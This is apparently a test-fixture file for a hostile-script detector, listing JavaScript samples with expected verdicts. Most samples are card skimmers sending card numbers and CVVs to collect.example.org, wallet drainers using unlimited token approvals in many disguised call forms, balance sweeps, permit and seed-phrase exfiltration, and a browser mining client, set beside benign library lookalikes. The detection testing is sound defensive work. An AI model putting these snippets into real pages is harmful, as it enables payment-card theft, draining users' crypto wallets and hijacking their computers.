// Scripts that use other libraries, or look like one, with their expected verdicts. They are inert: none of them is ever run, and
// the hosts do not exist.
import type { HonestCase } from './honest-scripts.cases.ts'
import type { ScriptCase } from './score-script.cases.ts'

const TYPED = `document.querySelector('#cc_number').value+document.querySelector('#cc_cvv').value`
const ACCOUNT = `'0x1234567890AbcdEF1234567890aBcdef12345678'`
/** Sends what `get` returns when the order is placed. */
const sentAtOrder = (get: string): string =>
  `document.querySelector('#place_order').onclick=async function(){new Image().src='https://collect.example.org/c?'+${get}}`

/** Ways in which a script looks like a library. */
const EXPORTS = [
  `typeof module==='object'&&(module.exports={})`,
  `try{module.exports={version:'1.0'}}catch(e){}`,
  `typeof define==='function'&&define.amd&&define([],function(){return{}})`,
  `export{}`,
]
/** Scripts that steal or mine when they are loaded or a button is pressed. */
const HOSTILE_WITH_EXPORTS: readonly (readonly [name: string, source: string, head: ScriptCase['head']])[] = [
  [
    'an approval without limit',
    `document.querySelector('#claim').onclick=async()=>{const s=await new ethers.BrowserProvider(window.ethereum).getSigner();await new ethers.Contract(T,abi,s).approve(${ACCOUNT},ethers.MaxUint256)}`,
    'malware',
  ],
  [
    'an approval without limit, by a function that errors call',
    `async function claim(){const s=await new ethers.BrowserProvider(window.ethereum).getSigner();await new ethers.Contract(T,abi,s).approve(${ACCOUNT},ethers.MaxUint256)}try{missing()}catch(e){document.querySelector('#claim').addEventListener('click',claim)}`,
    'malware',
  ],
  ...[
    ['called by its name', `token.approve.call(token,${ACCOUNT},ethers.MaxUint256)`],
    ['applied', `token.approve.apply(token,[${ACCOUNT},ethers.MaxUint256])`],
    ['applied by Reflect', `Reflect.apply(token.approve,token,[${ACCOUNT},ethers.MaxUint256])`],
    ['bound', `const give=token.approve.bind(token);give(${ACCOUNT},ethers.MaxUint256)`],
    ['taken out of its contract', `const {approve}=token;approve(${ACCOUNT},ethers.MaxUint256)`],
    ['of a function by its name', `await token.getFunction('approve')(${ACCOUNT},ethers.MaxUint256)`],
    [
      'of a function by its name, sent',
      `await token.getFunction('approve').send(${ACCOUNT},ethers.MaxUint256)`,
    ],
    ['of a name that is put together', `token['app'+'rove'](${ACCOUNT},ethers.MaxUint256)`],
    ['of a name with its types', `token['approve(address,uint256)'](${ACCOUNT},ethers.MaxUint256)`],
    [
      'behind many other calls',
      `for(let i=0;i<20100;i++)token['a'+i]();token.approve(${ACCOUNT},ethers.MaxUint256)`,
    ],
  ].map(
    ([by, spends = '']) =>
      [
        `an approval without limit, ${by}`,
        `document.querySelector('#claim').onclick=async()=>{const s=await new ethers.BrowserProvider(window.ethereum).getSigner();const token=new ethers.Contract(T,abi,s);${spends}}`,
        'malware',
      ] as const,
  ),
  [
    'an approval without limit by an element of its own',
    `customElements.define('claim-button',class extends HTMLElement{connectedCallback(){this.onclick=()=>this.claim()}async claim(){const s=await new ethers.BrowserProvider(window.ethereum).getSigner();await new ethers.Contract(T,abi,s).approve(${ACCOUNT},ethers.MaxUint256)}})`,
    'malware',
  ],
  [
    'the rest of a balance',
    `async function mint(){const [from]=await web3.eth.getAccounts();const balance=await web3.eth.getBalance(from);const gasPrice=await web3.eth.getGasPrice();await web3.eth.sendTransaction({from,to:${ACCOUNT},value:balance-21000*gasPrice})}document.querySelector('#mint').onclick=mint`,
    'malware',
  ],
  [
    'the rest of a balance, by a request',
    `document.querySelector('#claim').onclick=async()=>{const [a]=await ethereum.request({method:'eth_requestAccounts'});const h=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});const value='0x'+(BigInt(h)-21000n*30000000000n).toString(16);await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:${ACCOUNT},value}]})}`,
    'malware',
  ],
  [
    'a permit without limit',
    `document.querySelector('#claim').onclick=async()=>{const sig=await signer.signTypedData(domain,{Permit:[{name:'owner',type:'address'},{name:'value',type:'uint256'}]},{owner,spender,value:MaxUint256,deadline});fetch('https://collect.example.org/permit',{method:'POST',body:JSON.stringify({owner,sig})})}`,
    'malware',
  ],
  [
    'seed words',
    `document.querySelector('#go').onclick=function(){fetch('https://collect.example.org/w',{method:'POST',body:'seed phrase '+document.querySelector('#phrase').value})}`,
    'malware',
  ],
  [
    'work for a pool',
    `var ws=new WebSocket('wss://relay.example.net/'),all=[];for(var i=0;i<navigator.hardwareConcurrency;i++){var w=new Worker('/h.js');all.push(w);w.onmessage=function(e){ws.send(JSON.stringify({share:e.data.nonce,hash:e.data.hash}))}}ws.onmessage=function(e){var job=JSON.parse(e.data);all.forEach(function(w){w.postMessage(job)})}`,
    'cryptomining',
  ],
]

/** Calls of libraries, and of the browser, that may return what they get. */
const PASSED = [
  `lib.createEvent(${TYPED})`,
  `lib.createEvent.call(lib,${TYPED})`,
  `require('forms').createEvent(${TYPED})`,
  `lib.createElement(${TYPED})`,
  `React.createElement('i',{v:${TYPED}}).props.v`,
  `lib.getItem(${TYPED})`,
  `_.map([${TYPED}],String)`,
  `_.forEach([${TYPED}],f)[0]`,
  `out.append(${TYPED}).toString()`,
  `lib.trigger('x',${TYPED}).x`,
  `lib.querySelector(${TYPED})`,
  `lib.getAttribute(${TYPED})`,
  `lib.on(${TYPED})`,
  `lib.write(${TYPED})`,
  `lib.postMessage(${TYPED})`,
  `lib.setTimeout(${TYPED})`,
  `math.eval(${TYPED})`,
  `$([${TYPED}])[0]`,
  `new Event(${TYPED}).type`,
  `document.createElement('x'+${TYPED}).localName`,
]

export const LIBRARY_CASES: readonly ScriptCase[] = [
  ...PASSED.map((get): ScriptCase => ({
    name: `a card through ${get.replace(TYPED, 'it')}`,
    source: sentAtOrder(get),
    head: 'magecart',
  })),
  ...HOSTILE_WITH_EXPORTS.flatMap(([name, source, head]) =>
    EXPORTS.map((exports): ScriptCase => ({
      name: `${name}, beside ${exports}`,
      source: `${source};${exports}`,
      head,
    })),
  ),
]

export const HONEST_LIBRARY_CASES: readonly HonestCase[] = [
  {
    name: 'a form of a framework, for the own site',
    source: `function Pay(){const [n,setN]=React.useState('');return React.createElement('form',{onSubmit:e=>{e.preventDefault();fetch('/api/pay',{method:'POST',body:JSON.stringify({n})}).then(()=>navigator.sendBeacon('https://stats.example.org/done',location.pathname))}},React.createElement('input',{name:'cc_number',value:n,onChange:e=>setN(e.target.value)}))}ReactDOM.createRoot(document.querySelector('#app')).render(React.createElement(Pay))`,
  },
  {
    name: 'a view whose functions get it, and a count of its orders',
    source: `function View(el){this.el=el;this.number=el.querySelector('#cc_number').value;bus.on('paid',this.done,this);_.each(this.fields,this.bindField,this);this.track=_.bind(this.track,this)}View.prototype.done=function(){this.track('paid')};View.prototype.track=function(name){navigator.sendBeacon('https://stats.example.org/e',name)};new View(document.querySelector('#checkout'))`,
  },
  {
    name: 'typed text kept by a library, and an answer that is counted',
    source: `document.querySelector('#note').addEventListener('input',function(e){localforage.setItem('note',e.target.value).then(function(){navigator.sendBeacon('https://stats.example.org/e','saved')})})`,
  },
  {
    name: 'labels of fields by a library, and a count of them',
    source: `var labels=_.map(document.querySelectorAll('#checkout label'),function(l){return l.htmlFor});navigator.sendBeacon('https://stats.example.org/e',String(labels.length))`,
  },
  {
    name: 'a library for approvals, which the page calls',
    source: `const SPENDER=${ACCOUNT};async function approveAll(token,signer){const c=new ethers.Contract(token,abi,signer);const tx=await c.approve(SPENDER,ethers.constants.MaxUint256);return tx.wait()}async function ensure(token,signer,owner){const c=new ethers.Contract(token,abi,signer);if((await c.allowance(owner,SPENDER)).isZero())return approveAll(token,signer)}module.exports={approveAll,ensure,SPENDER}`,
  },
  {
    name: 'a class of tokens and one of an exchange, which call each other',
    source: `(function(g,f){typeof exports==='object'&&typeof module!=='undefined'?f(exports):typeof define==='function'&&define.amd?define(['exports'],f):f(g.Sdk={})})(this,function(exports){var ROUTER=${ACCOUNT};class Token{constructor(address,signer){this.contract=new ethers.Contract(address,ERC20,signer)}approve(spender,amount){return this.contract.approve(spender,amount)}balanceOf(a){return this.contract.balanceOf(a)}}class Exchange{constructor(signer){this.signer=signer}token(a){return new Token(a,this.signer)}async prepare(a){var t=this.token(a);return t.approve(ROUTER,ethers.constants.MaxUint256)}}exports.Token=Token;exports.Exchange=Exchange})`,
  },
  {
    name: 'the client of a wallet, which asks for its state when it is loaded',
    source: `var EventEmitter=require('events');var SPENDER=${ACCOUNT};class Connector extends EventEmitter{constructor(p){super();this.provider=p}async activate(){const [a]=await this.provider.request({method:'eth_requestAccounts'});this.account=a;return a}async approve(token){return this.provider.request({method:'eth_sendTransaction',params:[{from:this.account,to:token,data:iface.encodeFunctionData('approve',[SPENDER,MaxUint256])}]})}}if(typeof window!=='undefined'&&window.ethereum)window.ethereum.request({method:'eth_chainId'}).then(function(c){exports.chainId=c});exports.Connector=Connector`,
    sign: 'wallet-spent',
  },
  {
    name: 'a library for approvals by names of functions, which the page calls',
    source: `const SPENDER=${ACCOUNT};function approveAll(token){return token.getFunction('approve')(SPENDER,ethers.MaxUint256)}function bound(token){return token.approve.bind(token,SPENDER,ethers.MaxUint256)}function by(token,signer){const {approve}=new ethers.Contract(token,abi,signer);return approve.call(token,SPENDER,ethers.MaxUint256)}module.exports={approveAll,bound,by}`,
  },
  {
    name: 'a library for approvals that takes its calls from another file',
    source: `const {approve,transfer}=require('./calls');const SPENDER=${ACCOUNT};async function approveAll(token,signer){return approve(new ethers.Contract(token,abi,signer),SPENDER,ethers.constants.MaxUint256)}module.exports={approveAll,approve,transfer}`,
  },
  {
    name: 'a button of its own element, which asks the page to approve',
    source: `const SPENDER=${ACCOUNT};class ApproveButton extends HTMLElement{connectedCallback(){this.onclick=()=>this.dispatchEvent(new CustomEvent('approve',{bubbles:true}))}}customElements.define('approve-button',ApproveButton);async function approveAll(token,signer){const c=new ethers.Contract(token,abi,signer);return c.approve(SPENDER,ethers.constants.MaxUint256)}module.exports={approveAll,ApproveButton}`,
  },
  {
    name: 'all of a balance, by a library that the page calls',
    source: `exports.sweep=async function(web3,from,to){const balance=await web3.eth.getBalance(from);const gasPrice=await web3.eth.getGasPrice();return web3.eth.sendTransaction({from,to:to||${ACCOUNT},value:balance-21000*gasPrice})}`,
    sign: 'wallet-balance-sent',
  },
  {
    name: 'a permit by a library that asks for its settings when it is loaded',
    source: `var config=fetch('https://config.example.org/chains.json').then(r=>r.json());async function signPermit(signer,domain,owner,spender,deadline){const sig=await signer._signTypedData(domain,{Permit:[{name:'owner',type:'address'},{name:'spender',type:'address'},{name:'value',type:'uint256'}]},{owner,spender,value:ethers.constants.MaxUint256,deadline});return fetch('https://relay.example.org/permit',{method:'POST',body:JSON.stringify({owner,sig})})}module.exports={signPermit,config}`,
  },
  {
    name: 'the client of a pool as a library',
    source: `class Pool{constructor(url,options){this.url=url;this.threads=options.threads||navigator.hardwareConcurrency;this.workers=[]}start(){this.ws=new WebSocket(this.url||'wss://pool.example.org/');this.ws.onmessage=e=>this.job(JSON.parse(e.data));for(let i=0;i<this.threads;i++)this.workers.push(new Worker('/hash.js'))}job(job){for(const w of this.workers)w.postMessage({job,target:job.target})}submit(nonce,hash){this.ws.send(JSON.stringify({nonce,hash}))}}module.exports=Pool`,
    sign: 'miner-work',
  },
  {
    name: 'seed words restored by a library, which the page calls',
    source: `module.exports={restore:function(form,done){var words=form.querySelector('[name=mnemonic]').value;return fetch('https://vault.example.org/derive',{method:'POST',body:JSON.stringify({mnemonic:words})}).then(function(r){return r.json()}).then(done)}}`,
    sign: 'wallet-words-leave',
  },
]
